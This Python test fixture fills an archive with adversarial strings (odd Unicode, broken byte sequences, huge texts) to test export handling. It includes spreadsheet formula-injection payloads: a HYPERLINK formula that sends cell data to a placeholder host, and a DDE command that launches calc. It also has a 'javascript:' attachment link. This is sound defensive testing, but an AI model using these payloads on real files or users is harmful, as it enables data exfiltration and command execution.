"""An archive full of texts that break careless exports.  All names are invented."""

import dataclasses
from pathlib import Path

from archive import Archive, Attachment, Credit, Image, Role
from archive.model.article import MediaType
from archive.model.crawl import FailureType, FetchFailure, Listing, ListingEntry, SectionKind
from archive.model.plan import RecheckPolicy
from archive.store.articles import save_article, save_missing
from archive.store.crawls import begin_crawl, save_failure, save_listing
from tests.conftest import ARTICLE

FORMULAS = (
    '=HYPERLINK("http://evil.invalid/?"&A1,"看这里")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "　=1+1",
    "\u200b=1+1",
    "＝1＋1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "'=1+1",
    "''=1+1",
    "=cmd|'/C calc'!A0",
    "\x00=1+1",
)
TEXTS = (
    'a "quoted" text, with commas',
    '"',
    '""',
    "'",
    "，“引号”；,;\t制表",
    "一行\n二行\n\n四行",
    "一行\r\n二行\r三行",
    "NUL\x00在中间",
    "控制\x01\x1b\x7f字符",
    "\u202e反写\u202c \u200f从右到左\u200e שלום مرحبا",
    "\ufeff带BOM的文本",
    "\u2028行分隔\u2029段分隔\x85",
    "非字符\ufffe\uffff",
    "<r>标记</r>",
    "<r><t>假的富文本</t></r>",
    "<b>&amp;</b> ]]> <!--",
    "_x0041_ _x000D_",
    "1234567890123456789012345",
    "00123",
    "1e5",
    "2024-01-02",
    "TRUE",
    "NULL",
    "\\N",
    "#N/A",
    "http://www.yunting.example/看起来像网址",
    "  前后有空格  ",
    "😀𠮷𪚥",
    "长" * 40_000,
    "😀" * 20_000,
    "e\u0301" * 20_000,
)
LONG_ADDRESS = "http://www.yunting.example/" + "a" * 3_000


def build(path: Path) -> None:
    """Make the archive: each text as title, body, credit line, name, caption; two versions; broken bytes."""
    with Archive.open(path) as archive:
        crawl = begin_crawl(archive, "yunting", software="试验 0", options={"说明": "=1+1"})
        entries = []
        for number, text in enumerate((*FORMULAS, *TEXTS), 1):
            key = str(number)
            article = dataclasses.replace(
                ARTICLE,
                key=key,
                url=f"http://www.yunting.example/content/show?newsid={number}",
                title=text[:45_000],
                section=text[:20],
                source=text[:30],
                body=("" if number % 5 == 0 else text, "第二段"),
                credit_line=text[:100],
                credits=(
                    Credit(text[:20] or None, Role.OTHER, text[:50]),
                    Credit(None, Role.REPORTER, "闻小满", ""),
                    Credit("责编", Role.RESPONSIBLE_EDITOR, "苏木", text[:10]),
                ),
                images=(Image(f"http://www.yunting.example/{number}.png", text[:60], 1),),
                attachments=(Attachment("javascript:alert(1)", MediaType.FILE, text[:30]),),
            )
            save_article(archive, article, crawl)
            save_article(archive, dataclasses.replace(article, title=f"改：{article.title}"), crawl)
            entries.append(ListingEntry(key, article.url, text[:40], "=1"))
        save_listing(
            archive,
            Listing(
                site="yunting",
                slug="1",
                kind=SectionKind.SECTION,
                url="http://www.yunting.example/content/list?catid=1",
                name='=要闻,"',
                number=1,
                entries=tuple(entries),
                remaining=None,
                stop="end",
                fetched_at="2024-11-02T01:00:00Z",
            ),
            crawl,
        )
        missing = FetchFailure(
            site="yunting",
            url="http://www.yunting.example/2",
            failure_type=FailureType.ARTICLE,
            reason='=HTTP "404"\n',
            failed_at="2024-11-03T01:00:00Z",
            key="2",
        )
        save_missing(archive, [missing], crawl, RecheckPolicy())
        save_failure(archive, dataclasses.replace(missing, key="999", url=LONG_ADDRESS), crawl)
        with archive.transaction():
            execute = archive.connection.execute
            # what another program wrote: a lone surrogate, bytes of GBK, an overlong form
            broken = "CAST(x'{}' AS TEXT)"
            execute(f"UPDATE article SET title = {broken.format('e4ba91eda080e6b180')} WHERE article_id = 3")
            execute(f"UPDATE article SET body = {broken.format('d4c6cda1cfd8')} WHERE article_id = 4")
            execute(
                f"UPDATE credit SET name = {broken.format('c0afe4ba91')} WHERE article_id = 5 AND seq = 1"
            )
            execute("UPDATE article SET url = ? WHERE article_id = 6", (LONG_ADDRESS,))
            execute("UPDATE article SET published_on = NULL WHERE article_id = 7")
            execute(
                "INSERT INTO appraisal (article_id, archival_code, note) VALUES (1, ?, ?)",
                ("C015-WY·YW·2024·Y-00001", "=1+1\x00"),
            )
